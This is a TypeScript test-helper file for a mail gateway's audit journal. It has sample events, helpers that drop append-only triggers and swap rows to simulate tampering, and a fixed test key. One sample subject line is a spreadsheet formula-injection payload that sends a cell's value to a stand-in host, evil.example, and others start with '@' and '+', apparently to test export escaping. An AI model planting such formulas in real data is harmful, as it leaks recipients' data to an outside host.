import path from 'node:path';
import Database from 'better-sqlite3';
import type { NewAuditEvent } from '../../src/audit/events.js';
import { AuditJournal } from '../../src/audit/journal.js';
import type { SqliteAuditStore } from '../../src/audit/sqlite-audit.js';
import { AuditWriter } from '../../src/audit/writer.js';
import { createLogger } from '../../src/log.js';
import { DATABASE_FILE_NAME } from '../../src/store/sqlite.js';

const SHA_A = 'a'.repeat(64);
const SHA_B = '0123456789abcdef'.repeat(4);

/** Five events of one day, as the gateway and the hold service would write them. */
export function sampleEvents(): NewAuditEvent[] {
  return [
    { time: '2026-11-01T00:00:00.000Z', type: 'delivered', messageId: 'm1', sender: 'taro@example.co.jp', recipients: ['a@partner.example'], subject: '見積書の送付', action: 'deliver', actor: 'gateway' },
    {
      time: '2026-11-01T01:00:00.000Z',
      type: 'encrypted',
      messageId: 'm2',
      sender: 'taro@example.co.jp',
      recipients: ['a@partner.example', 'b@partner.example'],
      subject: '設計書',
      attachments: [{ name: '設計書.xlsx', sha256: SHA_A }],
      rules: ['zip-encrypt'],
      clauses: ['第6-2'],
      action: 'deliver',
      actor: 'gateway',
    },
    {
      time: '2026-11-01T02:00:00.000Z',
      type: 'rejected',
      messageId: 'm3',
      sender: 'hanako@example.co.jp',
      recipients: ['x@mailinator.com'],
      subject: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      rules: ['disposable-domain'],
      clauses: ['第6-3'],
      action: 'reject',
      actor: 'gateway',
    },
    {
      time: '2026-11-01T03:00:00.000Z',
      type: 'held',
      messageId: 'm4',
      sender: 'hanako@example.co.jp',
      recipients: ['c@newpartner.example'],
      subject: '+1 お見積り, "至急"',
      attachments: [{ name: 'a.pdf', sha256: SHA_B }],
      rules: ['first-time-domain', 'many-external'],
      clauses: ['第6-1'],
      action: 'hold',
      actor: 'gateway',
    },
    { time: '2026-11-02T00:00:00.000Z', type: 'released', messageId: 'm4', subject: '@SUM(A1:A9)', actor: 'hanako@example.co.jp', detail: 'released from the confirmation page' },
  ];
}

/** Opens the database file directly, as someone with file access would, with the append-only triggers dropped. */
export function tamper(dataDir: string, fn: (db: Database.Database) => void): void {
  const db = new Database(path.join(dataDir, DATABASE_FILE_NAME));
  try {
    db.exec('DROP TRIGGER IF EXISTS audit_events_no_update; DROP TRIGGER IF EXISTS audit_events_no_delete; DROP TRIGGER IF EXISTS audit_head_forward;');
    fn(db);
  } finally {
    db.close();
  }
}

/** Exchanges the given columns of two rows (all but seq by default). */
export function swapRows(db: Database.Database, a: number, b: number, columns?: string[]): void {
  const cols =
    columns ??
    (db.prepare('SELECT name FROM pragma_table_info(?)').all('audit_events') as { name: string }[]).map((c) => c.name).filter((n) => n !== 'seq');
  const get = db.prepare(`SELECT ${cols.join(', ')} FROM audit_events WHERE seq = ?`);
  const ra = get.get(a) as Record<string, unknown>;
  const rb = get.get(b) as Record<string, unknown>;
  const set = db.prepare(`UPDATE audit_events SET ${cols.map((c) => `${c} = @${c}`).join(', ')} WHERE seq = @seq`);
  db.transaction(() => {
    set.run({ ...rb, seq: a });
    set.run({ ...ra, seq: b });
  })();
}

/** A data-at-rest key for tests of the keyed chain. */
export const AUDIT_KEY = Buffer.alloc(32, 7);

/** How the gateway opens the chain of `dataDir`: keyed, anchored in the data dir. */
export function chainOptions(dataDir: string): { key: Buffer; anchorFile: string } {
  return { key: AUDIT_KEY, anchorFile: path.join(dataDir, 'audit-anchor.log') };
}

/** The gateway's writer over a store in `dataDir`: journal in the data dir, applied to the store. */
export async function auditWriter(store: SqliteAuditStore, dataDir: string, logger = createLogger('silent')): Promise<AuditWriter> {
  return new AuditWriter(await AuditJournal.open(dataDir, store.journalHeld()), store, logger);
}
